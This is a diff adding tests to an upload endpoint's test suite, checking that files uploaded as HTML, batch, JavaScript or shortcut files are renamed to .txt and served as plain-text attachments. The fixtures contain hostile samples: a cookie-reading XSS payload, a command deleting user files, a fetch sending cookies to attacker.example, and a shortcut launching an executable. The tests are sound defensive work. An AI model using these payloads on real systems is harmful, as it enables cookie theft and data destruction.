@@ -1,3 +1,5 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { FileRecord } from '../../src/lib/content/file-record.ts';
 import { loginMessages } from '../../src/strings/validation.ts';
@@ -119,6 +121,28 @@ describe('GET /uploads/{name}', () => {
     expect(response.headers.get('Content-Disposition')).toBe(
       `attachment; filename="Übung 3 ? Brüche.docx"; filename*=UTF-8''%C3%9Cbung%203%20%E2%80%93%20Br%C3%BCche.docx`,
     );
+  });
+
+  it.each([
+    ['lesson.html', 'Fractions, week 3\n<img src=x onerror=alert(document.cookie)>\n', 'lesson.txt'],
+    ['run-me.bat', '@echo off\r\ndel /q C:\\Users\\*\r\n', 'run-me.txt'],
+    ['steal.js', 'fetch("https://attacker.example/?" + document.cookie)\n', 'steal.txt'],
+    ['Shortcut.url', '[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n', 'Shortcut.txt'],
+  ])('names a text file uploaded as %s for what it is, in the list and in the download', async (name, text, downloaded) => {
+    const record = await uploaded(Buffer.from(text), name);
+    expect(record.fileName).toBe(downloaded);
+    const response = await fetchFile(record, { Authorization: `Bearer ${tutorToken}` });
+    expect(response.headers.get('Content-Type')).toBe('text/plain; charset=utf-8');
+    expect(response.headers.get('Content-Disposition')).toBe(`attachment; filename="${downloaded}"`);
+  });
+
+  it('names a file kept before names followed kinds for its kind when it is downloaded', async () => {
+    const name = 'keptBeforeTheRuleAAAAA.txt';
+    writeFileSync(join(t.files.dir, name), 'Kept before the rule');
+    await t.store.uploads.add({ name, fileName: 'kept earlier.html', mime: 'text/plain; charset=utf-8', size: 20 }, new Date());
+    const response = await t.api.request(`/uploads/${name}`, { headers: { Authorization: `Bearer ${tutorToken}` } });
+    expect(response.status).toBe(200);
+    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="kept earlier.txt"');
   });
 
   it('lets the browser keep it privately only if it asks again each time, and answers 304 to a matching ETag', async () => {
